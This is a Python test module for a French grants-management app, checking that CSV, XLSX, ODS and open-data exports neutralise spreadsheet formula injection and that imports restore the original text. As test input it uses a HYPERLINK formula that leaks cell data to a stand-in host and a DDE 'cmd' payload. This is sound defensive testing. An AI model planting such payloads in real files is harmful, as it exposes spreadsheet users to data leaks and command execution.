"""No exported cell starts a formula, and an import reads the text back as it was.

A partner manager plants `=HYPERLINK("http://x?leak="&A1,"Voir")` as a payment reference and as
its line's reference, and an instructor as an operation's title: in every export (CSV, XLSX,
ODS, SCDL, data package) the CSV cell begins with an apostrophe, the XLSX cell is a string (never
a formula), the ODS cell is a string; amounts (negative ones too) and dates stay numbers and
dates; importing the export gives the original text back.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from odf.namespaces import OFFICENS, TABLENS
from odf.opendocument import load as load_ods
from odf.table import TableCell

from cper.accounts.models import Role
from cper.audit.services import Actor
from cper.contracts.models import Partner
from cper.formulas import active, neutralise, restore, typed_text
from cper.io import datapackage, exports, scdl, writers
from cper.io.imports import import_operations
from cper.io.readers import cell_text, read_file
from cper.loading import contract_load
from cper.operations import services as ops
from cper.operations.lifecycle import operation_transition
from cper.operations.models import FinancingLine, Operation
from tests.conftest import HDF_FILE
from tests.finance import factories as F
from tests.io.conftest import SIRET_A, SIRET_B
from tests.operations.factories import make_user

HOSTILE = '=HYPERLINK("http://x?leak="&A1,"Voir")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


# -- the rule -----------------------------------------------------------------------------------

texts = st.text(alphabet=st.sampled_from([*TRIGGERS, "'", " ", "a", "1", ",", "(", "\n"]))


@given(st.one_of(texts, st.text()))
def test_neutralised_text_reads_back_as_it_was(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert restore(typed_text(text)) == text
    assert not active(neutralise(text))


@pytest.mark.parametrize("start", TRIGGERS)
def test_every_formula_start_gets_an_apostrophe(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    if start not in "\t\r":  # blanks first: spreadsheets that trim them would still evaluate
        assert neutralise(f"  {start}1") == f"'  {start}1"
    assert typed_text(f"{start}1+1") == f"{start}1+1"  # a string cell keeps its text


@pytest.mark.parametrize("number", ["-1234,56", "-500", "+33 6 12 34 56 78", "1 000,00"])
def test_a_number_written_as_text_stays_a_number(number: str) -> None:
    assert neutralise(number) == number


def test_plain_text_is_untouched() -> None:
    for text in ("Pôle d'échanges", "OP-0001", "l'été", "", "a=b"):
        assert neutralise(text) == text == restore(text)


# -- the writers --------------------------------------------------------------------------------


def _sheet() -> writers.Sheet:
    return writers.Sheet(
        name="Essai",
        columns=[
            writers.Col("Intitulé"),
            writers.Col("Montant", writers.MONEY),
            writers.Col("Date", writers.DATE),
            writers.Col("Rang", writers.INTEGER),
            writers.Col("@colonne"),
        ],
        rows=[
            [HOSTILE, Decimal("-1234.56"), dt.date(2024, 3, 31), -2, "+cmd|' /C calc'!A0"],
            ["Jardins", Decimal("100.00"), None, 1, "-"],
        ],
        meta=[("Filtres", "=1+1")],
    )


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_cells_begin_with_an_apostrophe_amounts_and_dates_unchanged() -> None:
    rows = _csv_rows(writers.csv_bytes(_sheet()))
    assert rows[0] == ["Filtres", "'=1+1"]
    assert rows[2] == ["Intitulé", "Montant", "Date", "Rang", "'@colonne"]
    assert rows[3] == [f"'{HOSTILE}", "-1234,56", "31/03/2024", "-2", "'+cmd|' /C calc'!A0"]
    assert rows[4][-1] == "'-"


def _xlsx_cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def test_xlsx_has_no_formula_and_keeps_numbers_and_dates() -> None:
    cells = _xlsx_cells(writers.xlsx_bytes([_sheet()]))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells if c.value is not None}
    assert by_value[HOSTILE].data_type == "s"
    assert by_value["=1+1"].data_type == "s"
    assert by_value[-1234.56].data_type == "n"  # a negative amount is a number
    assert by_value[-2].data_type == "n"
    assert any(c.is_date and c.value == dt.datetime(2024, 3, 31) for c in cells)


def _ods_cells(data: bytes) -> list[tuple[str, str]]:
    """(office:value-type, text) of every non-empty cell."""
    doc = load_ods(io.BytesIO(data))
    out = []
    for cell in doc.spreadsheet.getElementsByType(TableCell):
        kind = cell.attributes.get((OFFICENS, "value-type"))
        if kind:
            out.append((kind, str(cell)))
    assert all((TABLENS, "formula") not in c.attributes for c in doc.getElementsByType(TableCell))
    return out


def test_ods_text_is_a_string_cell_and_amounts_are_numbers() -> None:
    cells = dict((text, kind) for kind, text in _ods_cells(writers.ods_bytes([_sheet()])))
    assert cells[HOSTILE] == "string" and cells["=1+1"] == "string"
    assert cells["-1234,56"] == "float" and cells["31/03/2024"] == "date"


@pytest.mark.parametrize("fmt", writers.FORMATS)
def test_every_format_reads_back_the_original_text(fmt: str) -> None:
    rows = read_file(writers.render([_sheet()], fmt), f"essai.{fmt}")[0].rows
    texts = {cell_text(v) for row in rows for v in row}
    assert {HOSTILE, "=1+1", "@colonne", "+cmd|' /C calc'!A0", "-"} <= texts
    assert not any(t.startswith("'") for t in texts)


# -- planted by users, exported, imported back --------------------------------------------------


@pytest.fixture
def planted(hdf: Any) -> dict[str, Any]:
    """A published operation whose title an instructor set to the hostile text, programmed by
    a committee; a State line whose reference, and a payment whose reference, the State's
    manager set to it."""
    manager = Actor(user=make_user(Role.PARTNER_MANAGER, "etat"), via="web")
    instructor = Actor(user=make_user(Role.INSTRUCTOR, "etat"), via="web")
    etat = Partner.objects.get(contract=hdf, code="etat")
    op = ops.operation_create(
        actor=instructor,
        contract=hdf,
        code="INJ-1",
        title=HOSTILE,
        owner=ops.owner_create(
            actor=instructor, name="Ville de Lille", legal_category="commune", siret=SIRET_B
        ),
        objective=hdf.objectives.get(code="2.2"),
        communes=["59350"],
        cost_ht=Decimal("1000000.00"),
        published=True,
    )
    state = ops.financing_line_add(
        actor=instructor, operation=op, financer_kind="partner", partner=etat, amount="250000"
    )
    ops.financing_line_update(actor=manager, line=state, external_ref=HOSTILE)
    operation_transition(actor=instructor, operation=op, to_status="submitted")
    committee = ops.committee_create(
        actor=instructor, contract=hdf, kind="programmation", date=dt.date(2023, 1, 10)
    )
    ops.decision_record(actor=instructor, committee=committee, operation=op, outcome="approved")
    F.record(state, "commitment", dt.date(2023, 2, 1), "100000.00", "2100000099", actor=manager)
    F.record(state, "payment", dt.date(2023, 3, 15), "40000.50", HOSTILE, actor=manager)
    return {"contract": hdf, "op": op, "line": state}


def _check_csv(data: bytes, *, sep: str = ";", planted: bool = True) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=sep))
    cells = [c for r in rows for c in r]
    assert HOSTILE not in cells and (f"'{HOSTILE}" in cells or not planted)
    assert not any(c[:1] in ("=", "@") for c in cells)
    return rows


@pytest.mark.parametrize("kind", ["operations", "lines", "movements", "execution"])
def test_no_exported_cell_starts_a_formula(planted: dict[str, Any], kind: str) -> None:
    contract = planted["contract"]
    group_by = ("operation",) if kind == "execution" else ()
    sheets = exports.build(kind, contract, user=None, group_by=group_by)  # as the public
    csv_rows = _check_csv(writers.render(sheets, "csv"), planted=kind != "execution")
    cells = _xlsx_cells(writers.render(sheets, "xlsx"))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    ods = _ods_cells(writers.render(sheets, "ods"))
    if kind == "execution":  # the label « INJ-1 =HYPERLINK… » begins with the code
        assert any(r and r[0].startswith("INJ-1 =HYPERLINK") for r in csv_rows)
        return
    assert any(c.value == HOSTILE and c.data_type == "s" for c in cells)
    assert ("string", HOSTILE) in ods
    if kind == "movements":  # amounts and dates stay numbers and dates
        assert next(r[7:9] for r in csv_rows if r and r[0] == "INJ-1" and r[8] == "40000,50") == [
            "15/03/2023",
            "40000,50",
        ]
        payment = next(c for c in cells if c.value == Decimal("40000.5"))
        assert payment.data_type == "n"
        assert ("float", "40000,50") in ods and ("date", "15/03/2023") in ods


def test_open_data_files_neutralise_text(planted: dict[str, Any], tmp_path: Path) -> None:
    contract = planted["contract"]
    Partner.objects.filter(contract=contract).update(siret=SIRET_A)
    ops.external_reference_set(
        actor=Actor.system(),
        operation=Operation.objects.get(pk=planted["op"].pk),
        partner=Partner.objects.get(contract=contract, code="etat"),
        reference="@REF",
    )
    grants = _check_csv(scdl.render_csv(scdl.grants(contract, user=None)), sep=",")
    header = grants[0]
    row = next(r for r in grants[1:] if r[header.index("objet")] == f"'{HOSTILE}")
    assert row[header.index("referenceDecision")] == "'@REF"
    assert row[header.index("montant")] == "250000.00"
    datapackage.export(contract, tmp_path, user=None)
    for name in ("operations", "lignes_financement", "mouvements"):
        _check_csv((tmp_path / f"{name}.csv").read_bytes(), sep=",")


@pytest.fixture
def twin(hdf: Any, tmp_path: Path) -> Any:
    """A second contract with the Hauts-de-France structure (as in test_round_trip)."""
    text = HDF_FILE.read_text(encoding="utf-8").replace(
        "slug: hauts-de-france-2021-2027", "slug: jumeau-2021-2027", 1
    )
    path = tmp_path / "jumeau.yaml"
    path.write_text(text, encoding="utf-8")
    contract, _ = contract_load(path=path, actor=Actor.system())
    return contract


@pytest.mark.parametrize("fmt", writers.FORMATS)
def test_an_export_imports_back_with_the_original_text(
    planted: dict[str, Any], twin: Any, fmt: str
) -> None:
    """The long layout exported and imported into a copy of the contract: the operation's
    title and the line's reference are the planted text again, the amount the same."""
    admin = Actor(user=make_user(Role.ADMINISTRATOR), via="import")
    data = writers.render(exports.build("lines", planted["contract"], user=admin.user), fmt)
    report = import_operations(
        actor=admin, contract=twin, source=data, file_name=f"export.{fmt}", dry_run=False
    )
    assert report.ok, [str(r) for r in report.rejections]
    copy = Operation.objects.get(contract=twin, code="INJ-1")
    assert copy.title == HOSTILE
    line = FinancingLine.objects.get(operation=copy, partner__code="etat")
    assert line.external_ref == HOSTILE and line.amount == Decimal("250000.00")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_rejected_rows_file_gives_the_text_back_inert(
    planted: dict[str, Any], twin: Any, fmt: str
) -> None:
    """A CSV export whose row is rejected (unknown objective): the file of rejected rows carries
    the planted title inert, and reads back as it was."""
    admin = Actor(user=make_user(Role.ADMINISTRATOR), via="import")
    data = writers.render(exports.build("lines", planted["contract"], user=admin.user), "csv")
    data = data.replace(b";2.2;", b";9.9;")
    report = import_operations(actor=admin, contract=twin, source=data, file_name="export.csv")
    assert not report.ok
    rejects = report.rejected_file(fmt)
    if fmt == "csv":
        assert f"'{HOSTILE}" in {c for r in _csv_rows(rejects) for c in r}
    else:
        assert [c for c in _xlsx_cells(rejects) if c.data_type == "f"] == []
    texts = {cell_text(v) for row in read_file(rejects, f"rejets.{fmt}")[0].rows for v in row}
    assert HOSTILE in texts
